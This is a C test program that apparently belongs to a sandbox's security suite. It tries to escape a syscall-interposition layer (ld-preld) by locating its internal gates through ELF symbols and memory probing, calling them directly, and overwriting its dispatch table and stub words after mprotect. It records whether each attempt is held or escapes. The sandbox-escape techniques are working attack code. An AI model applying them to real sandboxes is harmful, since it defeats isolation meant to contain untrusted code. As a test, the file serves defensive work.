/* The fast path (docs/DESIGN.md, "The fast path"), attacked from inside a
 * session: after a site traps twice preld rewrites it into a jump to a stub
 * that calls a gate in ld-preld's text. Calls the session server serves
 * must never be made from a gate, and the gates themselves are `syscall`s
 * the kernel layers must fence like any other.
 *
 *   site-mov-*       a `mov eax, NR; syscall; ret` helper of this program
 *                    (with unwind info, so preld may rewrite it), called
 *                    three times with harmless arguments, then on the
 *                    victim / the harness's Unix socket;
 *   syscall-fn-*     libc's syscall() (a relocated-mov site: its number is
 *                    looked up in GATE_BY_NUMBER) with getppid three times,
 *                    then openat / connect;
 *   fork-site-*, thread-site-*  the rewritten sites again in a fork child
 *                    and in a second thread;
 *   gate-NAME-*      each gate of ld-preld (found by its symbols in the
 *                    file `ld`) called directly with openat / open /
 *                    connect; fast_gate_by_number also with numbers out of
 *                    its table (held either way: they must not crash into
 *                    authority);
 *   table-write-*    GATE_BY_NUMBER's openat and connect entries pointed at
 *                    the plain gate, then syscall() again;
 *   stub-write-*     the stub of the rewritten openat helper made writable
 *                    (mprotect through the gadget) and its gate word pointed
 *                    at the plain gate, then the helper again.
 * Natively there are no gates: each stands in as this program's own
 * `syscall; ret`, and every item but the out-of-table numbers gets out.
 * Keys: victim, unix_stream, bin (a ro grant), ld (ld-preld's file). */
#include "kattack.h"
#include <elf.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

NO_HELPERS

/* Helpers whose `mov eax, NR` preld may rewrite (CFI: an FDE, so the
 * handler finds the function's bounds). */
#define HELPER(name, nr) \
    __asm__(".text\n.globl " #name "\n.type " #name ",@function\n" #name ":\n.cfi_startproc\n" \
            "\tmov %rcx, %r10\n\tmov $" #nr ", %eax\n\tsyscall\n\tret\n.cfi_endproc\n.size " #name ",.-" #name "\n"); \
    extern long name(long, long, long, long);
HELPER(kf_openat, 257)
HELPER(kf_open, 2)
HELPER(kf_connect, 42)
HELPER(kf_stat, 4)

/* Calls a gate as a stub does: the gate's slow way returns to the return
 * address + 20, where this thunk answers KF_SLOW (the handler must see the
 * call). */
#define KF_SLOW (-100000L)
static unsigned long kf_gate;
__asm__(".text\nkf_thunk:\n\tcall *kf_gate(%rip)\n\tret\n\t.fill 19,1,0xcc\n\tmov $-100000, %rax\n\tret\n");
extern char kf_thunk[];
/* A gate called with arguments it does not expect (a path gate's path
 * register holding an fd) may fault in the process: that is no way out. */
#define KF_FAULT (-100001L)
static long gate6(unsigned long g, long n, long a, long b, long c, long d) {
    kf_gate = g;
    signal(SIGSEGV, on_fault);
    if (sigsetjmp(jb, 1)) { signal(SIGSEGV, SIG_DFL); return KF_FAULT; }
    long r = gad6((unsigned long)kf_thunk, n, a, b, c, d, 0, 0);
    signal(SIGSEGV, SIG_DFL);
    return r;
}

static const char *gname[] = { "plain", "fd", "mmap", "path0", "path1", "path0_open", "path1_open", "by_number" };
enum { NG = 8 };
static unsigned long gate[NG], table, base;

/* The symbols of ld-preld (not stripped): its gates and the table. */
static void find_gates(void) {
    if (memfd_child) return;
    /* Through the gadget: the server does not serve ld-preld's path, the
     * session's mount tree has it (Landlock lets it be read). */
    int fd = G != (unsigned long)kattack_own_gadget ? (int)gad6(G, SYS_open, (long)arg("ld"), O_RDONLY, 0, 0, 0, 0) : -ENOENT;
    if (fd < 0) fd = open(arg("ld"), O_RDONLY);
    if (fd < 0) { info("open ld: %s", strerror(errno)); return; }
    off_t n = lseek(fd, 0, SEEK_END);
    unsigned char *f = malloc(n);
    if (!f || pread(fd, f, n, 0) != n) { info("read ld failed"); close(fd); return; }
    close(fd);
    Elf64_Ehdr *eh = (Elf64_Ehdr *)f;
    Elf64_Shdr *sh = (Elf64_Shdr *)(f + eh->e_shoff);
    unsigned long off[NG] = { 0 }, toff = 0;
    for (int i = 0; i < eh->e_shnum; i++) {
        if (sh[i].sh_type != SHT_SYMTAB) continue;
        Elf64_Sym *s = (Elf64_Sym *)(f + sh[i].sh_offset);
        const char *str = (const char *)(f + sh[sh[i].sh_link].sh_offset);
        for (size_t k = 0; k < sh[i].sh_size / sizeof *s; k++) {
            const char *nm = str + s[k].st_name;
            if (strstr(nm, "GATE_BY_NUMBER")) toff = s[k].st_value;
            for (int g = 0; g < NG; g++) {
                char want[64];
                snprintf(want, sizeof want, "fast_gate_%s17h", gname[g]);
                if (strstr(nm, want)) off[g] = s[k].st_value;
            }
        }
    }
    /* ld-preld's base: the gadget lies in its text; the gate has the same
     * bytes at the same offset from the base as in the file. */
    signal(SIGSEGV, on_fault);
    signal(SIGBUS, on_fault);
    for (int c = -1; c < ncand && !base; c++) {
    unsigned long from = c < 0 ? G : cands[c];
    for (unsigned long b = from & ~0xfffUL; off[0] && b > from - (64UL << 20); b -= 4096) {
        unsigned char vec;
        if (raw6(SYS_mincore, b, 4096, (long)&vec, 0, 0, 0) != 0) continue;
        if (sigsetjmp(jb, 1)) continue;
        if (memcmp((void *)b, "\177ELF", 4)) continue;
        /* (not a string: its bytes in .rodata would be a gadget candidate) */
        volatile unsigned char *p = (unsigned char *)(b + off[0]);
        if (p[0] == 0x0f && p[1] == 0x05 && p[2] == 0xc3) { base = b; break; }
    }
    }
    signal(SIGSEGV, SIG_DFL);
    signal(SIGBUS, SIG_DFL);
    free(f);
    if (!base) { info("ld-preld's base not found"); return; }
    for (int g = 0; g < NG; g++) if (off[g]) gate[g] = base + off[g];
    if (toff) table = base + toff;
    info("ld-preld at %#lx, by_number gate %#lx, table %#lx", base, gate[7], table);
}

/* The helpers' `mov eax, NR` is at +3 (after `mov r10, rcx`). */
static int rewritten(void *f) { return ((unsigned char *)f)[3] == 0xe9; }

static void read_victim(const char *item, long fd) {
    if (fd == KF_SLOW) { held(item, "the gate sent it to the handler"); return; }
    if (fd == KF_FAULT) { held(item, "the gate faulted (SIGSEGV caught)"); return; }
    if (fd < 0) { held(item, "%s", err(fd)); return; }
    char b[64] = { 0 };
    long n = read((int)fd, b, sizeof b - 1);
    if (n > 0 && b[n - 1] == '\n') b[n - 1] = 0;
    escape(item, "opened the victim (fd %ld): %s", fd, n > 0 ? b : "(unread)");
    close((int)fd);
}

static struct sockaddr_un sun_(void) {
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, arg("unix_stream"), sizeof a.sun_path - 1);
    return a;
}

/* connect through `how` (0: kf_connect, 1: syscall(), 2+g: gate g). */
static void try_connect(const char *item, int how) {
    struct sockaddr_un a = sun_();
    long s = raw6(SYS_socket, AF_UNIX, SOCK_STREAM, 0, 0, 0, 0);
    if (s < 0) { held(item, "socket: %s", err(s)); return; }
    long r;
    if (how == 0) r = kf_connect(s, (long)&a, sizeof a, 0);
    else if (how == 1) r = syscall(SYS_connect, s, &a, sizeof a);
    else r = gate6(gate[how - 2] ? gate[how - 2] : G, SYS_connect, s, (long)&a, sizeof a, 0);
    if (how == 1 && r < 0) r = -errno;
    if (r == 0) {
        const char *t = tag(item);
        long n = write((int)s, t, strlen(t));
        escape(item, "connected to %s, sent %ld bytes", a.sun_path, n);
    } else if (r == KF_SLOW) held(item, "the gate sent it to the handler");
    else if (r == KF_FAULT) held(item, "the gate faulted (SIGSEGV caught)");
    else held(item, "%s", err(r));
    close((int)s);
}

static void *thread_main(void *p) {
    (void)p;
    read_victim("thread-site-openat", kf_openat(AT_FDCWD, (long)arg("victim"), O_RDONLY, 0));
    long r = syscall(SYS_openat, AT_FDCWD, arg("victim"), O_RDONLY);
    read_victim("thread-syscall-fn-openat", r < 0 ? -errno : r);
    return 0;
}

static void attacks(void) {
    static int once;
    if (!G) G = (unsigned long)kattack_own_gadget; /* memfd-child: no gadget picked */
    if (!once++) find_gates();
    const char *v = arg("victim"), *bin = arg("bin");
    struct stat st;

    /* Rewritable sites, three harmless calls each. */
    for (int i = 0; i < 3; i++) {
        closefd(kf_openat(AT_FDCWD, (long)bin, O_RDONLY | O_DIRECTORY, 0));
        closefd(kf_open((long)bin, O_RDONLY | O_DIRECTORY, 0, 0));
        kf_connect(-1, 0, 0, 0);
        kf_stat((long)bin, (long)&st, 0, 0);
        syscall(SYS_getppid);
    }
    info("rewritten: kf_openat %d kf_open %d kf_connect %d kf_stat %d", rewritten(kf_openat), rewritten(kf_open),
         rewritten(kf_connect), rewritten(kf_stat));
    read_victim("site-mov-openat", kf_openat(AT_FDCWD, (long)v, O_RDONLY, 0));
    read_victim("site-mov-open", kf_open((long)v, O_RDONLY, 0, 0));
    long r = kf_stat((long)v, (long)&st, 0, 0);
    if (r == 0) escape("site-mov-stat", "mode %o size %ld", st.st_mode, (long)st.st_size);
    else held("site-mov-stat", "%s", err(r));
    try_connect("site-mov-connect", 0);
    r = syscall(SYS_openat, AT_FDCWD, v, O_RDONLY);
    read_victim("syscall-fn-openat", r < 0 ? -errno : r);
    try_connect("syscall-fn-connect", 1);

    /* The same sites in a fork child and in another thread. */
    fflush(stdout);
    pid_t c = fork();
    if (c == 0) {
        read_victim("fork-site-openat", kf_openat(AT_FDCWD, (long)v, O_RDONLY, 0));
        long x = syscall(SYS_openat, AT_FDCWD, v, O_RDONLY);
        read_victim("fork-syscall-fn-openat", x < 0 ? -errno : x);
        fflush(stdout);
        _exit(0);
    }
    if (c > 0) waitpid(c, 0, 0);
    else { held("fork-site-openat", "fork: %s", strerror(errno)); held("fork-syscall-fn-openat", "fork"); }
    pthread_t th;
    if (pthread_create(&th, 0, thread_main, 0) == 0) pthread_join(th, 0);
    else { held("thread-site-openat", "pthread_create"); held("thread-syscall-fn-openat", "pthread_create"); }

    /* Each gate, called directly. */
    for (int g = 0; g < NG; g++) {
        unsigned long a = gate[g] ? gate[g] : G;
        char item[64];
        snprintf(item, sizeof item, "gate-%s-openat", gname[g]);
        read_victim(item, gate6(a, SYS_openat, AT_FDCWD, (long)v, O_RDONLY, 0));
        snprintf(item, sizeof item, "gate-%s-open", gname[g]);
        read_victim(item, gate6(a, SYS_open, (long)v, O_RDONLY, 0, 0));
        snprintf(item, sizeof item, "gate-%s-connect", gname[g]);
        try_connect(item, 2 + g);
    }
    /* fast_gate_by_number with numbers outside its table (openat's number
     * with high bits, -1, x32's openat): never a call into authority. */
    long odd[] = { 512, 0x100000000L + SYS_openat, -1, 0x40000000L + SYS_openat, 0x7fffffffffffffffL };
    for (unsigned i = 0; i < sizeof odd / sizeof *odd; i++) {
        char item[64];
        snprintf(item, sizeof item, "gate-by_number-nr-%u", i);
        r = gate6(gate[7] ? gate[7] : G, odd[i], AT_FDCWD, (long)v, O_RDONLY, 0);
        if (r == KF_SLOW) held(item, "nr %#lx: the gate sent it to the handler", odd[i]);
        else if (r == KF_FAULT) held(item, "nr %#lx: the gate faulted", odd[i]);
        else if (r < 0) held(item, "nr %#lx: %s", odd[i], err(r));
        else { escape(item, "nr %#lx returned %ld", odd[i], r); close((int)r); }
    }

    /* GATE_BY_NUMBER's openat and connect entries: the plain gate. */
    if (table && gate[0]) {
        unsigned long *t = (unsigned long *)table;
        long pr = gad6(G, SYS_mprotect, table & ~0xfffUL, 8192, PROT_READ | PROT_WRITE, 0, 0, 0);
        if (pr < 0) info("mprotect table: %s", err(pr));
        if (sigsetjmp(jb, 1) == 0) {
            signal(SIGSEGV, on_fault);
            t[SYS_openat] = gate[0];
            t[SYS_connect] = gate[0];
            info("table entries for openat and connect now the plain gate");
        } else info("table write faulted");
        signal(SIGSEGV, SIG_DFL);
    }
    r = syscall(SYS_openat, AT_FDCWD, v, O_RDONLY);
    read_victim("table-write-openat", r < 0 ? -errno : r);
    try_connect("table-write-connect", 1);

    /* The openat helper's stub: its gate word, the plain gate. */
    if (rewritten(kf_openat) && gate[0]) {
        unsigned char *s = (unsigned char *)kf_openat + 8 + *(int *)((char *)kf_openat + 4);
        /* the stub: mov eax, imm32 (5), lea rsp (5), call [rip+rel32] */
        unsigned char *call = s + 10;
        if (call[0] == 0xff && call[1] == 0x15) {
            unsigned long *word = (unsigned long *)(call + 6 + *(int *)(call + 2));
            long pr = gad6(G, SYS_mprotect, (unsigned long)word & ~0xfffUL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0);
            info("stub %p, gate word %p = %#lx, mprotect rw: %s", s, word, *word, err(pr));
            if (sigsetjmp(jb, 1) == 0) {
                signal(SIGSEGV, on_fault);
                *word = gate[0];
            } else info("stub word write faulted");
            signal(SIGSEGV, SIG_DFL);
        } else info("stub %p: no call at +10 (%02x %02x)", s, call[0], call[1]);
    }
    read_victim("stub-write-openat", kf_openat(AT_FDCWD, (long)v, O_RDONLY, 0));
}
